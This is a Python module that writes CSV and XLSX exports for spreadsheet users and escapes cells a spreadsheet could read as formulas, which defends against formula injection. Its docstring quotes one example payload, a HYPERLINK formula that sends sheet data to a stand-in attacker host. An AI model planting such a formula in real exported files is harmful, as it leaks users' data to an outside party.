"""The one writer of the CSV and XLSX files Relais hands out, safe to open in a spreadsheet.

French spreadsheets expect UTF-8 with a BOM and `;` as separator, rows ending in CRLF.

A text cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return is read as a
formula by Excel and LibreOffice (CSV/formula injection: `=HYPERLINK("http://evil.example/?d="
&A1,"Cliquez")` sends the sheet's data away when clicked). Every such text gets a leading
apostrophe, the usual escape, in both formats, even after leading spaces (which some imports
trim); XLSX text cells are written as string cells, never formulas. Control characters that
XLSX cannot hold are dropped. Numbers stay numbers, and an empty value is an empty cell.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Mapping, Sequence
from decimal import Decimal
from itertools import chain
from typing import Any, NamedTuple

CSV_MEDIA_TYPE = "text/csv; charset=utf-8"
XLSX_MEDIA_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
BOM = "\ufeff"
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
ESCAPE = "'"
# What XML 1.0 (hence XLSX) refuses: C0 controls other than tab, LF and CR.
_CONTROL_CHARACTERS = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")


class Table(NamedTuple):
    """A sheet: its header row, then its rows."""

    headers: Sequence[str]
    rows: Iterable[Sequence[Any]]


def neutralise(text: str) -> str:
    """`text` without control characters, with a leading apostrophe if a spreadsheet would
    take it for a formula."""
    text = _CONTROL_CHARACTERS.sub("", text)
    return ESCAPE + text if text.lstrip(" ").startswith(FORMULA_TRIGGERS) else text


def _cell(value: Any) -> Any:
    """Numbers, booleans and None as they are; anything else as neutralised text."""
    if value is None or isinstance(value, int | float | Decimal):  # bool is an int
        return value
    return neutralise(str(value))


def write_csv(rows: Iterable[Sequence[Any]], *, headers: Sequence[str]) -> bytes:
    """UTF-8 with BOM, `;`-separated, CRLF: opens as columns in a French spreadsheet."""
    buffer = io.StringIO()
    buffer.write(BOM)
    writer = csv.writer(buffer, delimiter=";", lineterminator="\r\n")
    for row in chain([headers], rows):
        writer.writerow([_cell(value) for value in row])  # csv writes None as an empty cell
    return buffer.getvalue().encode("utf-8")


def write_xlsx(sheets: Mapping[str, Table]) -> bytes:
    """A workbook with one sheet per table, text in string cells."""
    # Imported on first use (~7 MB in every server process for a file asked a few times a
    # year).
    from openpyxl import Workbook
    from openpyxl.cell import WriteOnlyCell

    workbook = Workbook(write_only=True)
    for title, table in sheets.items():
        sheet = workbook.create_sheet(title)
        for row in chain([table.headers], table.rows):
            cells = []
            for value in row:
                cell = WriteOnlyCell(sheet, value=_cell(value))
                if isinstance(cell.value, str):
                    cell.data_type = "s"  # openpyxl makes a formula of any text starting "="
                cells.append(cell)
            sheet.append(cells)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()
